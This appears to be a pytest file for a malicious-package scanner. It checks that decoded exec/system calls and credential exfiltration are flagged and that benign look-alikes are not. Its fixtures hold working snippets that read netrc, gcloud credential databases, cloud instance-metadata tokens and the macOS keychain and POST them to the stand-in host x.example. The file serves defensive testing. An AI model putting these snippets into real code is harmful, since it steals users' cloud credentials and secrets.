"""The data-flow tables (``_scan._sources``): what a decoder is."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from tests._scan.prefilterkit import found_in_a_package, kept_by_the_prefilter, tree_both_ways


def danger(source: str) -> set[str]:
    findings = scan_source(textwrap.dedent(source), "mod.py", mode=ScanMode.PACKAGE)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


#: blind15 (tune b15-ds-quopri-exec, -html-unescape-exec, -unquote-system): the
#: standard library's text codecs outside base64 and binascii's base64 undo an
#: encoding as well as b64decode does, and a command or code hidden in one is run
#: decoded data. HTML entities and URL escapes only of a literal of the file: every web
#: library unescapes what it is handed at run time.
ESCAPED = [
    "import quopri\nexec(quopri.decodestring(Q).decode())\n",
    "import binascii\nexec(binascii.a2b_qp(Q))\n",
    "import html\nexec(html.unescape('&#105;&#100;'))\n",
    "import os\nfrom urllib.parse import unquote\nU = '%69%64'\nos.system(unquote(U))\n",
    "import subprocess, urllib.parse\n"
    "subprocess.Popen(urllib.parse.unquote_plus('%69%64'), shell=True)\n",
    "import urllib.parse\nexec(urllib.parse.unquote_to_bytes('%69%64'))\n",
]


@pytest.mark.parametrize("source", ESCAPED)
def test_text_codecs_into_a_sink_are_run_decoded_data(source: str) -> None:
    assert "CPL-THR-001" in danger(source)


@pytest.mark.parametrize("source", ESCAPED)
def test_text_codecs_into_a_sink_are_found_with_the_prefilter_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-001")


@pytest.mark.parametrize(
    "source",
    [
        # a web framework unquoting a path and serving the file it names
        "import subprocess\nfrom urllib.parse import unquote\n"
        "def serve(path):\n    return open(unquote(path)).read()\n"
        "subprocess.run(['git', 'status'])\n",
        # a mail library decoding a quoted-printable body and printing it
        "import quopri\nprint(quopri.decodestring(body).decode())\n",
        # a template engine unescaping entities beside a compiled template it runs
        "import html\ntext = html.unescape(raw)\n"
        "code = compile(TEMPLATE, 'tpl', 'exec')\nexec(code)\n",
        # click's launcher: a file URL unquoted at run time and opened (xdg-open, open)
        "import subprocess\nfrom urllib.parse import unquote\n"
        "def launch(url):\n    subprocess.Popen(['xdg-open', unquote(url[7:])])\n",
        # an extension manager running a program named in an unescaped page
        "import subprocess\nfrom html import unescape\n"
        "def run(match, args):\n    subprocess.call([unescape(match.group(1))] + args)\n",
        # unquote of a URL's path handed to git as an argument, not as the program
        "import subprocess\nfrom urllib.parse import unquote\n"
        "subprocess.run(['git', 'clone', unquote(url)])\n",
    ],
)
def test_text_codecs_beside_sinks_they_do_not_reach_are_not_threats(source: str) -> None:
    assert "CPL-THR-001" not in danger(source)


#: blind15 (tune b15-re-netrc-module, -gcloud-sqlite, -imds-credentials): credentials
#: read without a literal path the indicators know: netrc's parser (it finds ~/.netrc
#: itself), a cloud CLI's credential database opened with sqlite3, the instance role's
#: credentials or token asked of the cloud metadata service; each sent to a fixed host.
CREDENTIALS_SENT = [
    "import netrc, requests\n"
    "hosts = netrc.netrc().hosts\n"
    "requests.post('https://x.example/b', json={h: v[2] for h, v in hosts.items()})\n",
    "import os, sqlite3, requests\n"
    "con = sqlite3.connect(os.path.expanduser('~/.config/gcloud/credentials.db'))\n"
    "rows = con.execute('select * from credentials').fetchall()\n"
    "requests.post('https://x.example/s', json={'rows': rows})\n",
    "import requests\n"
    "MD = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n"
    "role = requests.get(MD).text\n"
    "creds = requests.get(MD + role).json()\n"
    "requests.post('https://x.example/r', json=creds)\n",
    "import urllib.request, http.client\n"
    "req = urllib.request.Request('http://metadata.google.internal/computeMetadata/v1/"
    "instance/service-accounts/default/token', headers={'Metadata-Flavor': 'Google'})\n"
    "tok = urllib.request.urlopen(req).read()\n"
    "c = http.client.HTTPSConnection('x.example')\nc.request('POST', '/t', tok)\n",
]


@pytest.mark.parametrize("source", CREDENTIALS_SENT)
def test_credentials_read_by_parser_database_or_metadata_and_sent_are_threats(
    source: str,
) -> None:
    assert danger(source)


@pytest.mark.parametrize("source", CREDENTIALS_SENT)
def test_credentials_read_and_sent_are_found_with_the_prefilter_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    kept_by_the_prefilter(tmp_path, monkeypatch, source)


@pytest.mark.parametrize(
    "source",
    [
        # an HTTP client's own netrc lookup (requests.utils.get_netrc_auth): the login
        # goes with the request to the host it is for, whose URL the caller gives
        "import netrc\n"
        "def get_auth(url, host):\n"
        "    login, _, password = netrc.netrc().authenticators(host)\n"
        "    return login, password\n",
        # a cloud SDK asking the metadata service for the instance's region only
        "import requests\n"
        "region = requests.get('http://169.254.169.254/latest/meta-data/placement/region').text\n"
        "print(region)\n",
        # an application's own SQLite database, sent nowhere
        "import sqlite3\ncon = sqlite3.connect('app.db')\n"
        "print(con.execute('select 1').fetchall())\n",
    ],
)
def test_credential_readers_that_send_nothing_are_not_threats(source: str) -> None:
    assert not danger(source)


#: blind15 (tune b15-re-macos-keychain): the macOS login keychain file sent; and the
#: credential stores named as separate path pieces, which the prefilter must still see.
KEYCHAIN_AND_PIECES = [
    "import os, requests\n"
    "kc = os.path.expanduser('~/Library/Keychains/login.keychain-db')\n"
    "requests.post('https://x.example/u', files={'f': open(kc, 'rb')})\n",
    "import os, requests\n"
    "p = os.path.join(os.path.expanduser('~'), '.config', 'gcloud', 'credentials.db')\n"
    "requests.post('https://x.example/u', data=open(p, 'rb').read())\n",
]


@pytest.mark.parametrize("source", KEYCHAIN_AND_PIECES)
def test_keychains_and_stores_named_in_pieces_sent_are_threats(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    assert danger(source)
    (tmp_path / "mod.py").write_text(source, encoding="utf-8")
    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
    assert filtered == whole


def test_a_keychain_path_shown_to_the_user_is_not_a_threat() -> None:
    source = (
        "import os\nprint('unlock', os.path.expanduser('~/Library/Keychains/login.keychain-db'))\n"
    )
    assert not danger(source)
